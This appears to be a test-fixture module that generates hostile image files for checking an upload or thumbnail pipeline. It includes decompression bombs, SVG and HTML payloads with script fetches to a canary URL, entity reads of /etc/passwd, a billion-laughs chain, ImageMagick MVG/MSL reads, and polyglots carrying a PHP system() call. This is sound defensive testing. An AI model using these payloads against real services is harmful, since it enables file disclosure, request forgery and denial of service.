import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Numbers that look like chance and are the same for one seed (mulberry32). */
export function seededNumbers(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** A file that means harm, and what may become of it. */
export interface MaliciousFile {
  readonly name: string;
  readonly bytes: Buffer;
  /**
   * `bomb`: no picture is made of it. `foreign`: of a kind that nothing reads. `disguised`: a good picture and something
   * else besides, of which nothing is left in a rendition. `damaged`: a rendition or none.
   */
  readonly kind: 'bomb' | 'foreign' | 'disguised' | 'damaged';
}

/** What hides in files; if it shows in an answer or is asked for, something was run or read that should not be. */
export const CANARY = 'canary-4f2a';

function chunk(type: string, data: Buffer): Buffer {
  const framed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const out = Buffer.alloc(framed.length + 8);
  out.writeUInt32BE(data.length, 0);
  framed.copy(out, 4);
  out.writeUInt32BE(crc32(framed), framed.length + 4);
  return out;
}

/** A PNG of one bit a pixel; whole when `rows` are given, which cost their eighth in bytes before they are packed. */
function png(width: number, height: number, rows: number, more: readonly Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const data = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))), { level: 1 });
  const parts = [chunk('IHDR', header), ...more, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...parts]);
}

function gif(width: number, height: number): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  const frame = Buffer.from(',\0\0\0\0\0\0\0\0\0\x02\x02D\x01\0;', 'latin1');
  frame.writeUInt16LE(width, 5);
  frame.writeUInt16LE(height, 7);
  return Buffer.concat([head, frame]);
}

/** A lossy WebP whose canvas is as large as the format allows. */
function webp(width: number, height: number): Buffer {
  const extended = Buffer.alloc(18);
  extended.write('VP8X', 0, 'latin1');
  extended.writeUInt32LE(10, 4);
  extended.writeUIntLE(width - 1, 12, 3);
  extended.writeUIntLE(height - 1, 15, 3);
  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), extended]);
  const head = Buffer.from('RIFF\0\0\0\0', 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

/** A TIFF that says it has so many pixels, in one strip that is not there. */
function tiff(width: number, height: number): Buffer {
  const tags: readonly (readonly [number, number, number])[] = [
    [256, 4, width],
    [257, 4, height],
    [258, 3, 8],
    [259, 3, 1],
    [262, 3, 1],
    [273, 4, 8],
    [277, 3, 1],
    [278, 4, height],
    [279, 4, 0xff_ff_ff_00],
  ];
  const out = Buffer.alloc(8 + 2 + tags.length * 12 + 4);
  out.write('II*\0', 0, 'latin1');
  out.writeUInt32LE(8, 4);
  out.writeUInt16LE(tags.length, 8);
  tags.forEach(([tag, type, value], index) => {
    const at = 10 + index * 12;
    out.writeUInt16LE(tag, at);
    out.writeUInt16LE(type, at + 2);
    out.writeUInt32LE(1, at + 4);
    out.writeUInt32LE(value >>> 0, at + 8);
  });
  return out;
}

/** A good file whose size was overwritten, found by its old bytes. */
function resized(good: Buffer, old: Buffer, large: Buffer): Buffer {
  const at = good.indexOf(old);
  if (at === -1) throw new Error('The size is not where it was.');
  const out = Buffer.from(good);
  large.copy(out, at);
  return out;
}

const pair = (first: number, second: number, bytes: 2 | 4) => {
  const out = Buffer.alloc(bytes * 2);
  out.writeUIntBE(first, 0, bytes);
  out.writeUIntBE(second, bytes, bytes);
  return out;
};

const [WIDTH, HEIGHT] = [96, 72];
const FORMATS = ['jpeg', 'png', 'webp', 'avif', 'gif', 'tiff'] as const;
type Good = Readonly<Record<(typeof FORMATS)[number], Buffer>>;

/** A good picture of each format that is read. */
export async function validImages(seed: number): Promise<Good> {
  const next = seededNumbers(seed);
  const pixels = Buffer.from(Array.from({ length: WIDTH * HEIGHT * 3 }, () => next() * 256));
  const made = FORMATS.map(async (format) => {
    const image = sharp(pixels, { raw: { width: WIDTH, height: HEIGHT, channels: 3 } });
    return [format, await image.toFormat(format).toBuffer()] as const;
  });
  return Object.fromEntries(await Promise.all(made)) as Good;
}

/** Small files that would become large ones. */
function bombs(good: Good): MaliciousFile[] {
  const sizes = [
    [65_535, 65_535],
    [20_000, 20_000],
    [50_000, 3_000],
    [3_000, 50_000],
  ] as const;
  const avifSize = pair(WIDTH, HEIGHT, 4);
  const jpegSize = pair(HEIGHT, WIDTH, 2);
  return [
    { name: 'png-whole-144-megapixels', bytes: png(12_000, 12_000, 12_000) },
    { name: 'png-2-billion', bytes: png(2 ** 31 - 1, 2 ** 31 - 1, 1) },
    {
      name: 'png-text',
      bytes: png(64, 64, 0, [
        chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(40_000_000))])),
      ]),
    },
    { name: 'webp-largest', bytes: webp(16_777_216, 16_777_216) },
    { name: 'tiff-largest', bytes: tiff(2 ** 32 - 1, 2 ** 32 - 1) },
    { name: 'avif-largest', bytes: resized(good.avif, avifSize, pair(2 ** 31, 2 ** 31, 4)) },
    ...sizes.flatMap(([width, height]) => [
      { name: `png-${width}x${height}`, bytes: png(width, height, 1) },
      { name: `gif-${width}x${height}`, bytes: gif(width, height) },
      { name: `webp-${width}x${height}`, bytes: webp(width, height) },
      { name: `tiff-${width}x${height}`, bytes: tiff(width, height) },
      { name: `avif-${width}x${height}`, bytes: resized(good.avif, avifSize, pair(width, height, 4)) },
      { name: `jpeg-${width}x${height}`, bytes: resized(good.jpeg, jpegSize, pair(height, width, 2)) },
    ]),
  ].map((file) => ({ ...file, kind: 'bomb' as const }));
}

/** Documents and drawings that could run or read something, under every guise. */
function foreign(canaryUrl: string): MaliciousFile[] {
  const svg = (content: string, head = '') =>
    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${content}</svg>`;
  const laughs = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  );
  const texts = {
    'svg-script': svg(`<script>fetch('${canaryUrl}/script')</script>`),
    'svg-onload': svg('').replace('<svg', `<svg onload="fetch('${canaryUrl}/onload')"`),
    'svg-image': svg(`<image xlink:href="${canaryUrl}/image" width="9" height="9"/>`),
    'svg-file': svg('<image href="file:///etc/passwd" width="9" height="9"/>'),
    'svg-use': svg(`<use href="${canaryUrl}/use#x"/>`),
    'svg-style': svg(`<style>@import url(${canaryUrl}/style);</style>`),
    'svg-foreign': svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canaryUrl}/frame"/></foreignObject>`,
    ),
    'svg-entity-file': svg('<text>&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    'svg-entity-web': svg('<text>&x;</text>', `<!DOCTYPE svg [<!ENTITY x SYSTEM "${canaryUrl}/entity">]>`),
    'svg-doctype-web': svg('', `<!DOCTYPE svg PUBLIC "x" "${canaryUrl}/dtd">`),
    'svg-laughs': svg(
      '<text>&l9;</text>',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">${laughs.join('')}]>`,
    ),
    'svg-huge': svg('').replace('width="9" height="9"', 'width="99999999" height="99999999"'),
    'svg-deep': svg('<g>'.repeat(20_000)),
    'svg-stylesheet': `<?xml-stylesheet href="${canaryUrl}/xsl"?>${svg('')}`,
    'html-script': `<!doctype html><script>fetch('${canaryUrl}/html')</script>`,
    'html-comment': `<!-- ${'x'.repeat(1_000)} --><html><img src="${canaryUrl}/img"></html>`,
    'pdf-script': `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`,
    postscript: `%!PS\n(${canaryUrl}) (r) file`,
    mvg: `push graphic-context\nviewbox 0 0 9 9\nfill 'url(${canaryUrl}/mvg)'\npop graphic-context`,
    msl: `<?xml version="1.0"?><image><read filename="${canaryUrl}/msl"/></image>`,
    ppm: 'P6\n60000 60000\n255\n',
    pfm: 'PF\n60000 60000\n-1.0\n',
    fits: `SIMPLE  =                    T${' '.repeat(50)}BITPIX  =                    8`,
    radiance: '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 60000 +X 60000\n',
    csv: `1,2,3\n`.repeat(1_000),
    vips: '\xb6\xa6\xf2\x08\0\0\xff\xff\0\0\xff\xff',
    jp2: '\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 ',
    jxl: '\xff\x0a\xff\xff\xff\xff',
    openexr: 'v/1\x01\x02\0\0\0',
    matlab: `MATLAB 5.0 MAT-file${' '.repeat(110)}\0\x01IM`,
    nifti: `\x5c\x01\0\0${'\0'.repeat(340)}n+1\0`,
    bmp: 'BM\xff\xff\xff\x7f\0\0\0\x006\0\0\0(\0\0\0\xff\xff\xff\x7f\xff\xff\xff\x7f\x01\0\x18\0',
    ico: '\0\0\x01\0\xff\xff',
    psd: '8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\x75\x30\0\0\x75\x30\0\x08\0\x03',
    zip: `PK\x03\x04${'\0'.repeat(26)}`,
    gzip: deflateSync(Buffer.alloc(1_000_000)).toString('latin1'),
    elf: '\x7fELF\x02\x01\x01',
    empty: '\0',
  };
  return Object.entries(texts).map(([name, content]) => ({
    name,
    bytes: Buffer.from(content, 'latin1'),
    kind: 'foreign' as const,
  }));
}

/** Good pictures that are something else as well, and carry what must not get through. */
function disguised(good: Good, canaryUrl: string): MaliciousFile[] {
  const payloads = {
    script: `<script>fetch('${canaryUrl}/${CANARY}')</script>`,
    php: `<?php system('${CANARY}'); ?>`,
    zip: `PK\x03\x04${'\0'.repeat(26)}${CANARY}PK\x05\x06${'\0'.repeat(18)}`,
    pdf: `%PDF-1.7 ${CANARY} %%EOF`,
    shell: `\n#!/bin/sh\necho ${CANARY}\n`,
    html: `<!doctype html><html><body onload=${CANARY}></body></html>`,
  };
  const jpegComment = (text: string) => {
    const head = Buffer.from('\xff\xfe\0\0', 'latin1');
    head.writeUInt16BE(text.length + 2, 2);
    return Buffer.concat([
      good.jpeg.subarray(0, 2),
      head,
      Buffer.from(text, 'latin1'),
      good.jpeg.subarray(2),
    ]);
  };
  const pngText = (text: string) =>
    Buffer.concat([
      good.png.subarray(0, 33),
      chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')),
      good.png.subarray(33),
    ]);
  return Object.entries(payloads).flatMap(([name, text]) => [
    ...FORMATS.map((format) => ({
      name: `${format}-then-${name}`,
      bytes: Buffer.concat([good[format], Buffer.from(text, 'latin1')]),
      kind: 'disguised' as const,
    })),
    { name: `jpeg-comment-${name}`, bytes: jpegComment(text), kind: 'disguised' as const },
    { name: `png-text-${name}`, bytes: pngText(text), kind: 'disguised' as const },
  ]);
}

/** Good pictures that were cut, changed or mixed up by chance. */
function damaged(good: Good, seed: number, ofEach: number): MaliciousFile[] {
  const next = seededNumbers(seed);
  const below = (limit: number) => Math.floor(next() * limit);
  const damages: readonly ((bytes: Buffer) => Buffer)[] = [
    (bytes) => bytes.subarray(0, below(bytes.length)),
    (bytes) => {
      for (let count = below(20) + 1; count > 0; count -= 1) bytes[below(bytes.length)] = below(256);
      return bytes;
    },
    (bytes) => {
      // The beginning has the sizes and the counts.
      for (let count = 4; count > 0; count -= 1)
        bytes[below(Math.min(bytes.length, 200))] = next() < 0.5 ? 0xff : 0;
      return bytes;
    },
    (bytes) => {
      const at = below(bytes.length);
      return Buffer.concat([
        bytes.subarray(0, at),
        Buffer.alloc(below(5_000), below(256)),
        bytes.subarray(at),
      ]);
    },
    (bytes) => Buffer.concat([bytes, bytes.subarray(below(bytes.length))]),
  ];
  return FORMATS.flatMap((format) =>
    Array.from({ length: ofEach }, (_, index) => ({
      name: `${format}-damaged-${index}`,
      bytes: damages[index % damages.length]?.(Buffer.from(good[format])) ?? good[format],
      kind: 'damaged' as const,
    })),
  );
}

/** Files that mean harm, the same for one seed. */
export async function maliciousImages(
  seed: number,
  { canaryUrl, damagedOfEach }: { readonly canaryUrl: string; readonly damagedOfEach: number },
): Promise<readonly MaliciousFile[]> {
  const good = await validImages(seed);
  return [
    ...bombs(good),
    ...foreign(canaryUrl),
    ...disguised(good, canaryUrl),
    ...damaged(good, seed, damagedOfEach),
  ];
}
